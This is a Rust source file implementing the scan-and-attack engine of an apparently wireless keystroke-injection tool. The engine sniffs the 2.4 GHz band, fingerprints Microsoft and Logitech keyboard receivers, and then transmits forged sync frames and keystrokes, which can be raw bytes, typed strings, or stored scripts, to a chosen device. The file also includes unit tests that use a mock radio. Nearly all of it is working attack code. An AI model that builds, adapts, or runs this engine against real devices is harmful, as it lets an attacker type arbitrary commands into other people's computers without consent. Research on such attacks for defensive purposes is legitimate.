//! Session orchestration: the scan/attack state machine and its workers.
//!
//! The engine owns the radio, the target registry, and the notifier, and
//! multiplexes them across at most one background session at a time:
//!
//! - **Scanning** sweeps the 2.4 GHz band in promiscuous mode, sifting
//!   every capture through the reconstructor and the fingerprinter and
//!   upserting hits into the registry until a stop is requested.
//! - **Attacking** tunes to one registered target, replays the vendor
//!   sync preamble, and injects a keystroke stream from a raw buffer, an
//!   ASCII string, or a stored script.
//!
//! State lives in one atomic so session starts are race-free: a start is
//! a compare-and-swap away from `Idle`, and whichever caller loses the
//! race gets [`EngineError::Busy`]. Stop requests are a flag the workers
//! poll between channel hops and between frames, so a stop lands within
//! one listen window or one keystroke.
//!
//! The radio itself sits behind a lock because the engine is not its only
//! user on real hardware. A scan pass holds the lock for one sweep and
//! releases it between passes; an attack holds it for the whole burst. If
//! the lock is busy at the start of an attack the caller is told
//! immediately; mid-session contention is retried with a fixed backoff.

use crate::codec::VendorCodec;
use crate::consts::{
    ESB_ADDR_LEN, ESB_MAX_CAPTURE_LEN, INTER_FRAME_DELAY_MS, PA_LEVEL_MAX, RADIO_BACKOFF_MS,
    SCAN_CHANNEL_FIRST, SCAN_CHANNEL_LAST, SCAN_LISTEN_GAP_US, SCAN_PASS_GAP_MS,
    SCAN_TRIES_PER_CHANNEL, TX_ADDR_WIDTH,
};
use crate::fingerprint::classify;
use crate::frame::reassemble;
use crate::notify::{Event, Notifier};
use crate::radio::{DataRate, RadioLink};
use crate::source::{KeyEvent, KeystrokeSource};
use crate::store::{FsStore, ScriptStore};
use crate::targets::{Target, TargetRegistry, Upsert};

use std::sync::atomic::{AtomicBool, AtomicU8, Ordering};
use std::sync::{Arc, Mutex, MutexGuard, TryLockError};
use std::thread::{self, JoinHandle};
use std::time::Duration;
use thiserror::Error;

/// Coarse engine state, stored in one atomic byte.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[repr(u8)]
pub enum EngineState {
    /// No session running.
    Idle = 0,
    /// A scan worker is sweeping the band.
    Scanning = 1,
    /// An attack worker is injecting keystrokes.
    Attacking = 2,
}

impl EngineState {
    fn from_u8(raw: u8) -> Self {
        match raw {
            1 => EngineState::Scanning,
            2 => EngineState::Attacking,
            _ => EngineState::Idle,
        }
    }
}

/// Operator-facing status: [`EngineState`] refined by whether the last
/// scan left anything in the registry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EngineStatus {
    /// Idle with an empty registry.
    Idle,
    /// Idle with at least one discovered target.
    Found,
    /// Scan in progress.
    Scanning,
    /// Attack in progress.
    Attacking,
}

/// Why a session could not be started.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum EngineError {
    /// Another session is already running.
    #[error("a session is already running")]
    Busy,
    /// No active target occupies the requested registry slot.
    #[error("no target at registry index {0}")]
    InvalidTarget(u8),
    /// The shared radio is held by another user.
    #[error("radio is held by another user")]
    RadioBusy,
    /// The background worker thread could not be spawned.
    #[error("failed to spawn session worker")]
    Spawn,
}

/// State shared between the engine handle and its worker threads.
struct Shared<R, N> {
    radio: Mutex<R>,
    notifier: N,
    registry: Mutex<TargetRegistry>,
    state: AtomicU8,
    stop: AtomicBool,
}

impl<R, N> Shared<R, N> {
    /// Moves `from` to `to` iff the state is exactly `from`.
    fn transition(&self, from: EngineState, to: EngineState) -> Result<(), EngineError> {
        self.state
            .compare_exchange(from as u8, to as u8, Ordering::AcqRel, Ordering::Acquire)
            .map(|_| ())
            .map_err(|_| EngineError::Busy)
    }

    fn reset_idle(&self) {
        self.state.store(EngineState::Idle as u8, Ordering::Release);
    }
}

/// Recovers the guard even if a worker panicked while holding the lock;
/// the protected data (registry slots, radio handle) stays usable.
fn lock_or_recover<T>(mutex: &Mutex<T>) -> MutexGuard<'_, T> {
    mutex.lock().unwrap_or_else(|poisoned| poisoned.into_inner())
}

fn sleep_ms(ms: u64) {
    thread::sleep(Duration::from_millis(ms));
}

/// The sniff/inject engine.
///
/// One instance per radio. Session starts are methods on this handle;
/// the sessions themselves run on a background thread and report through
/// the [`Notifier`].
pub struct Engine<R, N, S = FsStore> {
    shared: Arc<Shared<R, N>>,
    scripts: S,
    worker: Option<JoinHandle<()>>,
}

impl<R, N> Engine<R, N>
where
    R: RadioLink + Send + 'static,
    N: Notifier + Send + Sync + 'static,
{
    /// Creates an idle engine reading scripts from the local filesystem.
    pub fn new(radio: R, notifier: N) -> Self {
        Self::with_scripts(radio, notifier, FsStore)
    }
}

impl<R, N, S> Engine<R, N, S>
where
    R: RadioLink + Send + 'static,
    N: Notifier + Send + Sync + 'static,
    S: ScriptStore,
{
    /// Creates an idle engine with a custom script source.
    pub fn with_scripts(radio: R, notifier: N, scripts: S) -> Self {
        Self {
            shared: Arc::new(Shared {
                radio: Mutex::new(radio),
                notifier,
                registry: Mutex::new(TargetRegistry::new()),
                state: AtomicU8::new(EngineState::Idle as u8),
                stop: AtomicBool::new(false),
            }),
            scripts,
            worker: None,
        }
    }

    /// Current session state.
    pub fn state(&self) -> EngineState {
        EngineState::from_u8(self.shared.state.load(Ordering::Acquire))
    }

    /// Operator-facing status.
    pub fn status(&self) -> EngineStatus {
        match self.state() {
            EngineState::Scanning => EngineStatus::Scanning,
            EngineState::Attacking => EngineStatus::Attacking,
            EngineState::Idle => {
                if lock_or_recover(&self.shared.registry).is_empty() {
                    EngineStatus::Idle
                } else {
                    EngineStatus::Found
                }
            }
        }
    }

    /// Number of targets discovered so far.
    pub fn target_count(&self) -> usize {
        lock_or_recover(&self.shared.registry).len()
    }

    /// Snapshot of the registry in sighting order.
    pub fn targets(&self) -> Vec<Target> {
        lock_or_recover(&self.shared.registry).iter().cloned().collect()
    }

    /// Starts a scan session.
    ///
    /// The registry is cleared first: slot indices handed out by this
    /// scan are only meaningful against this scan. Fails with
    /// [`EngineError::Busy`] if any session is already running.
    pub fn start_scan(&mut self) -> Result<(), EngineError> {
        self.shared
            .transition(EngineState::Idle, EngineState::Scanning)?;
        self.reap_worker();
        lock_or_recover(&self.shared.registry).clear();
        self.shared.stop.store(false, Ordering::Release);

        let shared = Arc::clone(&self.shared);
        match thread::Builder::new()
            .name("hid-scan".into())
            .spawn(move || scan_worker(shared))
        {
            Ok(handle) => {
                self.worker = Some(handle);
                Ok(())
            }
            Err(err) => {
                log::error!("scan worker spawn failed: {err}");
                self.shared.reset_idle();
                Err(EngineError::Spawn)
            }
        }
    }

    /// Requests the running scan to stop after its current listen window.
    pub fn stop_scan(&self) {
        if self.state() == EngineState::Scanning {
            self.shared.stop.store(true, Ordering::Release);
        }
    }

    /// Injects raw `(modifier, keycode)` pairs into the target at `index`.
    pub fn start_attack(&mut self, index: u8, keys: &[u8]) -> Result<(), EngineError> {
        let target = self.begin(index)?;
        self.launch(AttackSession::new(index, target, Payload::Raw(keys.to_vec())))
    }

    /// Types an ASCII string on the target at `index`.
    pub fn inject_string(&mut self, index: u8, text: &str) -> Result<(), EngineError> {
        let target = self.begin(index)?;
        self.launch(AttackSession::new(
            index,
            target,
            Payload::Text(text.to_owned()),
        ))
    }

    /// Runs the stored keystroke script at `path` against the target at
    /// `index`.
    ///
    /// An unreadable script is not a start failure: the session completes
    /// immediately (with its completion notification) having injected
    /// nothing, and `Ok(())` is returned.
    pub fn run_script(&mut self, index: u8, path: &str) -> Result<(), EngineError> {
        let target = self.begin(index)?;
        let script = match self.scripts.load(path) {
            Ok(body) => body,
            Err(err) => {
                log::error!("script {path:?} unavailable: {err}");
                self.shared.reset_idle();
                self.shared
                    .notifier
                    .notify(Event::AttackComplete { target: index });
                return Ok(());
            }
        };
        self.launch(AttackSession::new(index, target, Payload::Script(script)))
    }

    /// Requests the running attack to stop before its next frame.
    pub fn stop_attack(&self) {
        if self.state() == EngineState::Attacking {
            self.shared.stop.store(true, Ordering::Release);
        }
    }

    /// Blocks until the current session worker (if any) has exited.
    pub fn wait_idle(&mut self) {
        self.reap_worker();
    }

    /// Claims the attack slot and resolves the target, rolling the state
    /// back on a bad index.
    fn begin(&self, index: u8) -> Result<Target, EngineError> {
        self.shared
            .transition(EngineState::Idle, EngineState::Attacking)?;
        let target = lock_or_recover(&self.shared.registry)
            .get(index as usize)
            .cloned();
        match target {
            Some(target) => Ok(target),
            None => {
                self.shared.reset_idle();
                Err(EngineError::InvalidTarget(index))
            }
        }
    }

    /// Probes the radio lock and spawns the attack worker, rolling the
    /// state back on either failure.
    fn launch(&mut self, session: AttackSession) -> Result<(), EngineError> {
        if let Err(TryLockError::WouldBlock) = self.shared.radio.try_lock() {
            self.shared.reset_idle();
            return Err(EngineError::RadioBusy);
        }
        self.reap_worker();
        self.shared.stop.store(false, Ordering::Release);

        let shared = Arc::clone(&self.shared);
        match thread::Builder::new()
            .name("hid-attack".into())
            .spawn(move || attack_worker(shared, session))
        {
            Ok(handle) => {
                self.worker = Some(handle);
                Ok(())
            }
            Err(err) => {
                log::error!("attack worker spawn failed: {err}");
                self.shared.reset_idle();
                Err(EngineError::Spawn)
            }
        }
    }

    fn reap_worker(&mut self) {
        if let Some(handle) = self.worker.take() {
            let _ = handle.join();
        }
    }
}

impl<R, N, S> core::fmt::Debug for Engine<R, N, S> {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        f.debug_struct("Engine")
            .field(
                "state",
                &EngineState::from_u8(self.shared.state.load(Ordering::Acquire)),
            )
            .finish_non_exhaustive()
    }
}

/// What an attack session types, owned so the worker thread can carry it.
enum Payload {
    Raw(Vec<u8>),
    Text(String),
    Script(String),
}

impl Payload {
    fn source(&self) -> KeystrokeSource<'_> {
        match self {
            Payload::Raw(bytes) => KeystrokeSource::raw(bytes),
            Payload::Text(text) => KeystrokeSource::text(text),
            Payload::Script(body) => KeystrokeSource::script(body),
        }
    }
}

/// Everything an attack worker needs, resolved before spawn.
struct AttackSession {
    target_index: u8,
    target: Target,
    codec: VendorCodec,
    payload: Payload,
}

impl AttackSession {
    fn new(target_index: u8, target: Target, payload: Payload) -> Self {
        let codec = VendorCodec::for_device(target.device_type);
        Self {
            target_index,
            target,
            codec,
            payload,
        }
    }
}

/// Configures the radio for a promiscuous scan pass.
fn configure_rx<R: RadioLink>(radio: &mut R) -> Result<(), R::Error> {
    radio.set_data_rate(DataRate::Mbps2)?;
    radio.enter_promiscuous()?;
    radio.ce_high()
}

/// Configures the radio to transmit at the target.
fn configure_tx<R: RadioLink>(radio: &mut R, target: &Target) -> Result<(), R::Error> {
    radio.set_data_rate(DataRate::Mbps2)?;
    radio.set_pa_level(PA_LEVEL_MAX)?;
    radio.set_channel(target.channel)?;
    radio.set_address_width(TX_ADDR_WIDTH)?;
    radio.set_tx_mode(target.address_bytes())
}

/// Sweeps the band until a stop is requested, then reports scan
/// completion. Runs on the `hid-scan` thread.
fn scan_worker<R, N>(shared: Arc<Shared<R, N>>)
where
    R: RadioLink,
    N: Notifier,
{
    while !shared.stop.load(Ordering::Acquire) {
        let mut radio = match shared.radio.try_lock() {
            Ok(guard) => guard,
            Err(TryLockError::Poisoned(poisoned)) => poisoned.into_inner(),
            Err(TryLockError::WouldBlock) => {
                log::warn!("radio busy, delaying scan pass");
                sleep_ms(RADIO_BACKOFF_MS);
                continue;
            }
        };
        if let Err(err) = configure_rx(&mut *radio) {
            log::warn!("promiscuous setup failed: {err:?}");
            drop(radio);
            sleep_ms(RADIO_BACKOFF_MS);
            continue;
        }

        for channel in SCAN_CHANNEL_FIRST..=SCAN_CHANNEL_LAST {
            if shared.stop.load(Ordering::Acquire) {
                break;
            }
            if radio.set_channel(channel).is_err() {
                continue;
            }
            for _ in 0..SCAN_TRIES_PER_CHANNEL {
                let mut capture = [0u8; ESB_MAX_CAPTURE_LEN];
                if let Ok(len) = radio.receive(&mut capture) {
                    let len = len.min(ESB_MAX_CAPTURE_LEN);
                    sift_capture(&shared, &capture[..len], channel);
                }
                thread::sleep(Duration::from_micros(SCAN_LISTEN_GAP_US));
            }
        }

        let _ = radio.ce_low();
        drop(radio);
        sleep_ms(SCAN_PASS_GAP_MS);
    }

    let targets = lock_or_recover(&shared.registry).len() as u8;
    shared.reset_idle();
    shared.notifier.notify(Event::ScanComplete { targets });
}

/// Runs one capture through reconstruction, fingerprinting, and the
/// registry; announces fresh discoveries.
fn sift_capture<R, N>(shared: &Shared<R, N>, capture: &[u8], channel: u8)
where
    N: Notifier,
{
    let Some(frame) = reassemble(capture, channel) else {
        return;
    };
    let Some(device_type) = classify(&frame.payload) else {
        return;
    };

    let outcome = lock_or_recover(&shared.registry).upsert(&frame.address, channel, device_type);
    match outcome {
        Upsert::Added(index) => {
            log::info!("target {index}: {device_type:?} on channel {channel}");
            shared.notifier.notify(Event::TargetFound {
                index: index as u8,
                device_type,
                channel,
                address: frame.address,
                addr_len: ESB_ADDR_LEN as u8,
            });
        }
        Upsert::Updated(_) => {}
        Upsert::Full => {
            log::warn!("registry full, dropped sighting on channel {channel}");
        }
    }
}

/// Drives one injection burst to completion (or stop), then reports it.
/// Runs on the `hid-attack` thread.
fn attack_worker<R, N>(shared: Arc<Shared<R, N>>, mut session: AttackSession)
where
    R: RadioLink,
    N: Notifier,
{
    run_attack(&shared, &mut session);
    shared.reset_idle();
    shared.notifier.notify(Event::AttackComplete {
        target: session.target_index,
    });
}

fn run_attack<R, N>(shared: &Shared<R, N>, session: &mut AttackSession)
where
    R: RadioLink,
{
    let mut radio = loop {
        match shared.radio.try_lock() {
            Ok(guard) => break guard,
            Err(TryLockError::Poisoned(poisoned)) => break poisoned.into_inner(),
            Err(TryLockError::WouldBlock) => {
                if shared.stop.load(Ordering::Acquire) {
                    return;
                }
                log::warn!("radio busy, delaying injection");
                sleep_ms(RADIO_BACKOFF_MS);
            }
        }
    };

    if let Err(err) = configure_tx(&mut *radio, &session.target) {
        log::error!("transmit setup failed: {err:?}");
        let _ = radio.ce_low();
        return;
    }
    inject(shared, &mut *radio, session);
    let _ = radio.ce_low();
}

/// Sends the vendor sync preamble and then the keystroke stream, pacing
/// frames the way the receivers expect and polling the stop flag between
/// each.
fn inject<R, N>(shared: &Shared<R, N>, radio: &mut R, session: &mut AttackSession)
where
    R: RadioLink,
{
    let address = session.target.address;

    for _ in 0..session.codec.sync_frame_count() {
        if shared.stop.load(Ordering::Acquire) {
            return;
        }
        let frame = session.codec.null_frame(&address);
        if let Err(err) = radio.transmit(&frame) {
            log::warn!("sync transmit failed: {err:?}");
            return;
        }
        sleep_ms(u64::from(INTER_FRAME_DELAY_MS));
    }

    let AttackSession { codec, payload, .. } = session;
    for event in payload.source() {
        if shared.stop.load(Ordering::Acquire) {
            return;
        }
        match event {
            KeyEvent::Wait(ms) => sleep_ms(u64::from(ms)),
            KeyEvent::Stroke {
                press,
                post_delay_ms,
            } => {
                let frames = codec.keystroke(&address, press);
                if let Err(err) = radio.transmit(&frames.down) {
                    log::warn!("key-down transmit failed, aborting burst: {err:?}");
                    return;
                }
                sleep_ms(u64::from(INTER_FRAME_DELAY_MS));
                if let Err(err) = radio.transmit(&frames.up) {
                    log::warn!("key-up transmit failed, aborting burst: {err:?}");
                    return;
                }
                sleep_ms(u64::from(post_delay_ms));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::consts::MS_SYNC_FRAMES;
    use crate::fingerprint::DeviceType;
    use crate::frame::pack_capture;
    use std::collections::VecDeque;
    use std::io;

    const ADDR: [u8; 5] = [0x5A, 0x23, 0x9F, 0xC1, 0x70];

    fn ms_plain_payload() -> [u8; 19] {
        let mut payload = [0u8; 19];
        payload[0] = 0x08;
        payload[6] = 0x40;
        payload
    }

    fn logitech_payload() -> [u8; 10] {
        let mut payload = [0u8; 10];
        payload[1] = 0xC2;
        payload
    }

    #[derive(Default)]
    struct RadioInner {
        captures: VecDeque<Vec<u8>>,
        sent: Vec<Vec<u8>>,
    }

    /// Scripted radio: hands out queued captures, records transmissions.
    #[derive(Clone, Default)]
    struct MockRadio(Arc<Mutex<RadioInner>>);

    impl MockRadio {
        fn with_captures(captures: &[&[u8]]) -> Self {
            let radio = Self::default();
            radio.0.lock().unwrap().captures = captures.iter().map(|c| c.to_vec()).collect();
            radio
        }

        fn sent(&self) -> Vec<Vec<u8>> {
            self.0.lock().unwrap().sent.clone()
        }
    }

    impl RadioLink for MockRadio {
        type Error = ();

        fn set_channel(&mut self, _channel: u8) -> Result<(), ()> {
            Ok(())
        }
        fn set_data_rate(&mut self, _rate: DataRate) -> Result<(), ()> {
            Ok(())
        }
        fn set_address_width(&mut self, _width: u8) -> Result<(), ()> {
            Ok(())
        }
        fn set_pa_level(&mut self, _level: u8) -> Result<(), ()> {
            Ok(())
        }
        fn enter_promiscuous(&mut self) -> Result<(), ()> {
            Ok(())
        }

        fn receive(&mut self, buf: &mut [u8]) -> nb::Result<usize, ()> {
            match self.0.lock().unwrap().captures.pop_front() {
                Some(capture) => {
                    let len = capture.len().min(buf.len());
                    buf[..len].copy_from_slice(&capture[..len]);
                    Ok(len)
                }
                None => Err(nb::Error::WouldBlock),
            }
        }

        fn set_tx_mode(&mut self, _address: &[u8]) -> Result<(), ()> {
            Ok(())
        }

        fn transmit(&mut self, frame: &[u8]) -> Result<(), ()> {
            self.0.lock().unwrap().sent.push(frame.to_vec());
            Ok(())
        }

        fn ce_low(&mut self) -> Result<(), ()> {
            Ok(())
        }
        fn ce_high(&mut self) -> Result<(), ()> {
            Ok(())
        }
    }

    #[derive(Clone, Default)]
    struct MockNotifier(Arc<Mutex<Vec<Event>>>);

    impl MockNotifier {
        fn events(&self) -> Vec<Event> {
            self.0.lock().unwrap().clone()
        }
    }

    impl Notifier for MockNotifier {
        fn notify(&self, event: Event) {
            self.0.lock().unwrap().push(event);
        }
    }

    /// Script store with exactly one script in it.
    struct MemoryStore(&'static str, &'static str);

    impl ScriptStore for MemoryStore {
        fn load(&self, path: &str) -> io::Result<String> {
            if path == self.0 {
                Ok(self.1.into())
            } else {
                Err(io::Error::new(io::ErrorKind::NotFound, "no such script"))
            }
        }
    }

    fn wait_for(done: impl Fn() -> bool) {
        for _ in 0..200 {
            if done() {
                return;
            }
            thread::sleep(Duration::from_millis(10));
        }
        panic!("engine did not settle in time");
    }

    /// Scans one queued capture into the registry and returns the idle
    /// engine with its target at slot 0.
    fn discover<S: ScriptStore>(
        payload: &[u8],
        scripts: S,
    ) -> (Engine<MockRadio, MockNotifier, S>, MockRadio, MockNotifier) {
        let capture = pack_capture(&ADDR, payload);
        let radio = MockRadio::with_captures(&[&capture]);
        let notifier = MockNotifier::default();
        let mut engine = Engine::with_scripts(radio.clone(), notifier.clone(), scripts);

        engine.start_scan().unwrap();
        wait_for(|| engine.target_count() == 1);
        engine.stop_scan();
        engine.wait_idle();
        // Discovery only listens.
        assert!(radio.sent().is_empty());
        (engine, radio, notifier)
    }

    #[test]
    fn scan_discovers_and_reports_targets() {
        let (engine, _radio, notifier) = discover(&ms_plain_payload(), FsStore);

        assert_eq!(engine.state(), EngineState::Idle);
        assert_eq!(engine.status(), EngineStatus::Found);
        let targets = engine.targets();
        assert_eq!(targets.len(), 1);
        assert_eq!(targets[0].address, ADDR);
        assert_eq!(targets[0].device_type, DeviceType::MicrosoftPlain);
        assert_eq!(targets[0].channel, 2);

        let events = notifier.events();
        assert!(matches!(
            events[0],
            Event::TargetFound {
                index: 0,
                device_type: DeviceType::MicrosoftPlain,
                channel: 2,
                address: ADDR,
                addr_len: 5,
            }
        ));
        assert_eq!(*events.last().unwrap(), Event::ScanComplete { targets: 1 });
    }

    #[test]
    fn second_session_while_scanning_is_rejected() {
        let mut engine = Engine::new(MockRadio::default(), MockNotifier::default());
        engine.start_scan().unwrap();
        assert_eq!(engine.start_scan(), Err(EngineError::Busy));
        assert_eq!(engine.start_attack(0, &[0x00, 0x04]), Err(EngineError::Busy));
        engine.stop_scan();
        engine.wait_idle();
        assert_eq!(engine.state(), EngineState::Idle);
    }

    #[test]
    fn attack_on_unknown_target_restores_idle() {
        let mut engine = Engine::new(MockRadio::default(), MockNotifier::default());
        assert_eq!(
            engine.start_attack(3, &[0x00, 0x04]),
            Err(EngineError::InvalidTarget(3))
        );
        assert_eq!(engine.state(), EngineState::Idle);
        // A fresh session is still possible afterwards.
        engine.start_scan().unwrap();
        engine.stop_scan();
        engine.wait_idle();
    }

    #[test]
    fn raw_attack_sends_logitech_frames() {
        let (mut engine, radio, notifier) = discover(&logitech_payload(), FsStore);

        engine.start_attack(0, &[0x02, 0x04]).unwrap();
        engine.wait_idle();

        let sent = radio.sent();
        // One keystroke, no sync preamble: key-down then key-up.
        assert_eq!(sent.len(), 2);
        assert_eq!(sent[0][1], 0xC1);
        assert_eq!(sent[0][2], 0x02);
        assert_eq!(sent[0][3], 0x04);
        assert_eq!(&sent[1][2..9], &[0; 7]);

        assert_eq!(
            *notifier.events().last().unwrap(),
            Event::AttackComplete { target: 0 }
        );
        assert_eq!(engine.state(), EngineState::Idle);
    }

    #[test]
    fn string_injection_syncs_then_types() {
        let (mut engine, radio, _notifier) = discover(&ms_plain_payload(), FsStore);

        engine.inject_string(0, "a").unwrap();
        engine.wait_idle();

        let sent = radio.sent();
        assert_eq!(sent.len(), MS_SYNC_FRAMES + 2);
        // Sync preamble: null frames counting the sequence up from 0.
        for (i, frame) in sent[..MS_SYNC_FRAMES].iter().enumerate() {
            assert_eq!(frame[4] as usize, i);
            assert_eq!([frame[7], frame[9]], [0, 0]);
        }
        let down = &sent[MS_SYNC_FRAMES];
        assert_eq!(down[4] as usize, MS_SYNC_FRAMES);
        assert_eq!(down[9], 0x04); // 'a'
        let up = &sent[MS_SYNC_FRAMES + 1];
        assert_eq!(up[4] as usize, MS_SYNC_FRAMES + 1);
        assert_eq!(up[9], 0x00);
    }

    #[test]
    fn script_attack_runs_stored_script() {
        let store = MemoryStore("payload.txt", "REM demo\nDELAY 10\nSTRING hi\n");
        let (mut engine, radio, _notifier) = discover(&logitech_payload(), store);

        engine.run_script(0, "payload.txt").unwrap();
        engine.wait_idle();

        let sent = radio.sent();
        // Two characters, each a down/up pair.
        assert_eq!(sent.len(), 4);
        assert_eq!(sent[0][3], 0x0B); // 'h'
        assert_eq!(sent[2][3], 0x0C); // 'i'
    }

    #[test]
    fn missing_script_completes_without_transmitting() {
        let store = MemoryStore("payload.txt", "STRING hi\n");
        let (mut engine, radio, notifier) = discover(&logitech_payload(), store);

        assert_eq!(engine.run_script(0, "absent.txt"), Ok(()));
        assert_eq!(engine.state(), EngineState::Idle);
        assert!(radio.sent().is_empty());
        assert_eq!(
            *notifier.events().last().unwrap(),
            Event::AttackComplete { target: 0 }
        );
    }
}
